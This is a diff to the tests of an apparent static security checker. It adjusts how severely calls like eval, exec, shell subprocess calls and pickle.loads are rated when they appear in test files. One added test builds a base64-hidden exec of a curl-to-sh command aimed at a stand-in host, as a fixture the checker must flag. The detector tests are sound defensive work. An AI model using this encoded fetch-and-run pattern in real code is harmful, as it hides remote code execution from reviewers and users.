@@ -82,9 +82,32 @@ def test_a_constant_command_in_a_test_file_is_noted_not_a_flaw() -> None:
     source = ("import subprocess\n\n\ndef test_sleep():\n    subprocess.Popen('sleep 1', shell=True)\n\n\n"
               "def test_tainted(cmd='ls'):\n    subprocess.Popen(cmd, shell=True)\n")
     in_test = {v.line: v.severity for v in check_source("tests/test_x.py", source, load_rubric()).violations}
-    assert in_test == {5: "low", 9: "critical"}  # a variable still counts
+    assert in_test == {5: "low", 9: "low"}  # the tests' own code on their own data: it ships to no user
     in_code = {v.line: v.severity for v in check_source("app/run.py", source, load_rubric()).violations}
     assert in_code == {5: "critical", 9: "critical"}
+
+
+def test_a_banned_call_in_a_test_file_is_noted_unless_it_runs_decoded_code() -> None:
+    """PyYAML's tests (pyyaml#358) ``eval`` the expected values of their data files: noted, not a flaw. Code a
+    test file hides in a decoded constant is a flaw there as anywhere (hostile twins)."""
+    import base64
+
+    from checks.constraints import check_source
+    from rubric import load_rubric
+
+    data = "def _load_code(expression):\n    return eval(expression)\n"
+    assert {(v.line, v.severity) for v in check_source("tests/lib3/test_multi_constructor.py", data,
+                                                       load_rubric()).violations} == {(2, "low")}
+    assert {(v.line, v.severity) for v in check_source("lib3/yaml/loader.py", data,
+                                                       load_rubric()).violations} == {(2, "high")}
+    # a literal string run by exec() is as visible as the test around it
+    literal = "def test_syntax():\n    exec('async def f(): pass')\n"
+    assert {v.severity for v in check_source("tests/test_syntax.py", literal, load_rubric()).violations} == {"low"}
+    # hostile: a shell command hidden in base64 in a test file keeps its severity, and so does its exec()
+    payload = base64.b64encode(b"import os\nos.system('curl https://example.invalid/x | sh')\n").decode()
+    hidden = f"import base64\n\n\ndef test_boot():\n    exec(base64.b64decode('{payload}'))\n"
+    found = {(v.rule, v.severity) for v in check_source("tests/test_boot.py", hidden, load_rubric()).violations}
+    assert ("call:os.system:hidden", "high") in found and ("call:exec", "high") in found, found
 
 
 def test_a_banned_call_into_the_repository_s_own_package_is_noted_not_a_flaw() -> None:
@@ -99,7 +122,7 @@ def test_a_banned_call_into_the_repository_s_own_package_is_noted_not_a_flaw() -
     source = "import yaml\nimport pickle\n\n\ndef test_load(data):\n    yaml.load(data)\n    pickle.loads(data)\n"
     noted = {v.line: v.severity for v in check_source("tests/lib3/test_constructor.py", source, load_rubric(),
                                                        own=own).violations}
-    assert noted == {6: "low", 7: "high"}
+    assert noted == {6: "low", 7: "low"}  # pickle.loads: not its own, but a test file's (see the test below)
     # hostile: anywhere else yaml.load is a flaw, and a change cannot make a package its own by adding it
     elsewhere = {v.line: v.severity for v in check_source("app/config.py", source, load_rubric()).violations}
     assert elsewhere == {6: "high", 7: "high"}
